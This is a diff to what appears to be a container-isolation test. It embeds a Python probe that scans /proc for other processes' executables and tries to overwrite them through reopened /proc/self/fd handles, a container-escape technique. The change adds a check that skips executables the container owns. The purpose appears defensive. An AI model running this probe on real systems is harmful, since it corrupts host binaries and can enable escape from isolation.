@@ -143,6 +143,9 @@ os.setxattr('/usr/local/bin/able', 'security.capability', struct.pack('<IIIII', 
     const lurk = `import os, time
 open('/tmp/me', 'w').write('#!/proc/self/exe\\n'); os.chmod('/tmp/me', 0o755)
 print('ready', flush=True)
+def own(fd):
+    try: return os.path.samestat(os.stat(os.readlink('/proc/self/fd/%d' % fd)), os.fstat(fd))
+    except OSError: return False
 mine, written, seen = os.readlink('/proc/self/exe'), 0, 0
 end = time.time() + 60
 while time.time() < end and not os.path.exists('/tmp/stop'):
@@ -153,6 +156,8 @@ while time.time() < end and not os.path.exists('/tmp/stop'):
             if os.readlink('/proc/%s/exe' % pid) == mine: continue
             seen += 1
             fd = os.open('/proc/%s/exe' % pid, os.O_RDONLY)
+            # A program of the container's own is its own to change.
+            if own(fd): continue
             os.write(os.open('/proc/self/fd/%d' % fd, os.O_WRONLY), b'x'); written += 1
         except OSError: pass
         finally:
